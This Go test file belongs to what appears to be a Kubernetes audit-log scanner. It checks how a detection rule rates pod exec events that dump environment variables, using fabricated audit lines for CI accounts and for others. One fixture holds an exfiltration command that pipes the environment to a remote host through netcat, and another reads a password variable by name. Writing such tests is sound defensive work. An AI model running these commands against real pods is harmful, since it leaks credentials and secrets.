package main

import (
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"tideline/scanner/finding"
)

// execLine is one exec into a pod, as an API server logs it.
func execLine(user, group, agent, address, namespace string, command ...string) string {
	q := url.Values{"command": command, "stdout": {"true"}}
	return fmt.Sprintf(`{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"e1","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/%[1]s/pods/build-7/exec?%[2]s","verb":"create",`+
		`"user":{"username":%[3]q,"groups":[%[4]q,"system:authenticated"]},"sourceIPs":[%[5]q],"userAgent":%[6]q,`+
		`"objectRef":{"resource":"pods","subresource":"exec","namespace":%[1]q,"name":"build-7","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":101},`+
		`"requestReceivedTimestamp":"2026-03-01T10:00:00.000001Z","stageTimestamp":"2026-03-01T10:00:00.000002Z"}`+"\n", namespace, q.Encode(), user, group, address, agent)
}

// TestACIServerAsksItsOwnAgents: a CI server prints the environment of each pod that it
// builds in. The account is worth stealing, so that all else that is done with it, and the
// same by anybody else, stays high.
func TestACIServerAsksItsOwnAgents(t *testing.T) {
	const (
		jenkins, gitlab = "system:serviceaccount:ci:jenkins", "system:serviceaccount:ci:gitlab-runner"
		accounts        = "system:serviceaccounts"
		java, runner    = "okhttp/4.12.0", "gitlab-runner 17.1.0 linux/amd64"
	)
	for name, c := range map[string]struct {
		line, level string
	}{
		"Jenkins":                {execLine(jenkins, accounts, java, "10.1.2.3", "ci", "printenv"), "low"},
		"Jenkins, newer client":  {execLine(jenkins, accounts, "fabric8-kubernetes-client/6.10.0", "10.1.2.3", "ci", "sh", "-c", "env"), "low"},
		"GitLab's runner":        {execLine(gitlab, accounts, runner, "10.1.2.3", "ci", "env"), "low"},
		"a person":               {execLine("alice", "dev", java, "10.1.2.3", "ci", "printenv"), "high"},
		"another account":        {execLine("system:serviceaccount:ci:default", accounts, java, "10.1.2.3", "ci", "printenv"), "high"},
		"with kubectl":           {execLine(jenkins, accounts, "kubectl/v1.31.0", "10.1.2.3", "ci", "printenv"), "high"},
		"the runner and curl":    {execLine(gitlab, accounts, "curl/8.5.0", "10.1.2.3", "ci", "env"), "high"},
		"another namespace":      {execLine(jenkins, accounts, java, "10.1.2.3", "prod", "printenv"), "high"},
		"from the internet":      {execLine(jenkins, accounts, java, "45.33.32.156", "ci", "printenv"), "high"},
		"a credential by name":   {execLine(jenkins, accounts, java, "10.1.2.3", "ci", "printenv", "DB_PASSWORD"), "high"},
		"sent somewhere besides": {execLine(jenkins, accounts, java, "10.1.2.3", "ci", "sh", "-c", "env | nc 10.9.9.9 80"), "high"},
	} {
		file := filepath.Join(t.TempDir(), "audit.log")
		if err := os.WriteFile(file, []byte(c.line), 0o600); err != nil {
			t.Fatal(err)
		}
		status, out, errs := tideline("scan", "-q", "-f", "ndjson", file)
		if status != exitOK {
			t.Fatalf("%s: status %d: %s", name, status, errs)
		}
		level := ""
		for line := range strings.Lines(out) {
			var f finding.Finding
			if err := json.Unmarshal([]byte(line), &f); err != nil {
				t.Fatal(err)
			}
			if f.Rule.Title == "Exec command dumps environment variables" {
				level = string(f.Rule.Level)
				if asked := strings.Contains(fmt.Sprint(f.Reasons), "in its own namespace"); asked != (c.level == "low") {
					t.Errorf("%s: reasons %v", name, f.Reasons)
				}
			}
		}
		if level != c.level {
			t.Errorf("%s: level %q, not %q", name, level, c.level)
		}
	}
}
